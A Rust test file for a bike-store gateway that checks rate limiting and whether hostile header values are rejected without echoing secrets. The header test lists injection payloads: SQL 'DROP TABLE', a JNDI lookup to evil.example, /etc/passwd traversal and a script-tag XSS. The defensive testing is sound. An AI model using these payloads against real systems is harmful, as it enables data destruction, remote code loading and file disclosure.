//! Limits: a burst beyond the rate limit is refused (a member's, a connection's), and hostile
//! header values are harmless.

use bikestore_codec::ContentType;
use bikestore_contracts::identity::{PublicKeySet, PublicKeys, Role};
use bikestore_contracts::inventory::{ListProducts, ProductPage, ReceiveStock};
use bikestore_contracts::{ErrorCode, ProductId, Request, headers};

use crate::support::{Stack, now_ms};

#[tokio::test]
async fn a_burst_beyond_the_rate_limit_is_refused() {
    let stack = Stack::start_with(|config| {
        config.rate_burst = 5;
        config.rate_per_second = 1;
        config.connection_burst = 5;
        config.connection_rate_per_second = 1;
    })
    .await
    .unwrap();
    let store = stack.store().await.unwrap();
    stack.staff("sam", Role::Sales, Some(store)).await.unwrap();
    stack.staff("kim", Role::Sales, Some(store)).await.unwrap();
    let sam = stack.login("sam").await.unwrap();
    let kim = stack.login("kim").await.unwrap();
    let mut codes = Vec::new();
    for _ in 0..12 {
        let reply = stack
            .call(&sam, &ListProducts::default(), ContentType::Postcard)
            .await;
        codes.push(reply.err().map(|error| error.code));
    }
    let limited = codes
        .iter()
        .filter(|code| **code == Some(ErrorCode::RateLimited))
        .count();
    assert!(limited >= 5, "{codes:?}");
    assert_eq!(codes[0], None, "{codes:?}");
    // Another member has a bucket of their own.
    stack
        .call(&kim, &ListProducts::default(), ContentType::Postcard)
        .await
        .unwrap();
    // Public operations draw from their connection's bucket, which the two logins began to
    // empty.
    let mut public_codes = Vec::new();
    for _ in 0..8 {
        let body = bikestore_codec::encode(ContentType::Postcard, &PublicKeys {}).unwrap();
        let reply = stack
            .client
            .request(
                stack
                    .subjects
                    .api(PublicKeys::SERVICE, PublicKeys::OPERATION),
                body.into(),
            )
            .await
            .unwrap();
        public_codes.push(
            bikestore_runtime::call::decode_reply::<PublicKeySet>(&reply)
                .err()
                .map(|error| error.code),
        );
    }
    assert!(
        public_codes.contains(&Some(ErrorCode::RateLimited)),
        "{public_codes:?}"
    );
    stack.stop().await.unwrap();
}

#[tokio::test]
async fn injection_like_and_very_long_header_values_are_harmless() {
    let stack = Stack::start().await.unwrap();
    let store = stack.store().await.unwrap();
    stack.staff("sam", Role::Sales, Some(store)).await.unwrap();
    let session = stack.login("sam").await.unwrap();
    let long = "A".repeat(64 * 1024);
    let hostile = [
        "'; DROP TABLE staff; --",
        "${jndi:ldap://evil.example/a}",
        "../../../../etc/passwd",
        "Bearer Bearer Bearer",
        "<script>alert(1)</script>",
        "\u{202e}\u{fffd}ünïcödé",
        "-1",
        "99999999999999999999999999",
        long.as_str(),
    ];
    let names = [
        headers::AUTHORIZATION,
        headers::REQUEST_TIMESTAMP,
        headers::REQUEST_NONCE,
        headers::REQUEST_SIGNATURE,
        headers::CONTENT_TYPE,
        headers::SCHEMA_VERSION,
        headers::IDEMPOTENCY_KEY,
        headers::TRACEPARENT,
        headers::CALLER_STAFF_ID,
        headers::CALLER_ROLE,
        headers::CALLER_STORE_ID,
        headers::SAGA_ID,
    ];
    let command = ReceiveStock {
        store_id: store,
        product_id: ProductId(7),
        quantity: 1,
    };
    for name in names {
        for value in hostile {
            let signed = session
                .sign(&stack.subjects, &command, ContentType::Json, now_ms())
                .with_header(name, value);
            let reply = stack.send_raw(&signed).await;
            let error = bikestore_runtime::call::decode_reply::<
                bikestore_contracts::inventory::StockUpdated,
            >(&reply)
            .expect_err("no hostile header passes as a success");
            assert!(
                matches!(
                    error.code,
                    ErrorCode::Unauthorized | ErrorCode::Invalid | ErrorCode::NotFound
                ),
                "{name}: {:?}",
                error
            );
            assert!(
                !error.message.contains(session.token.expose()),
                "{name}: the token was echoed"
            );
            assert!(error.message.len() < 512, "{name}: the value was echoed");
        }
    }
    // The gateway is still well.
    let page: ProductPage = stack
        .call(&session, &ListProducts::default(), ContentType::Json)
        .await
        .unwrap();
    assert_eq!(page.total, 0);
    stack.stop().await.unwrap();
}
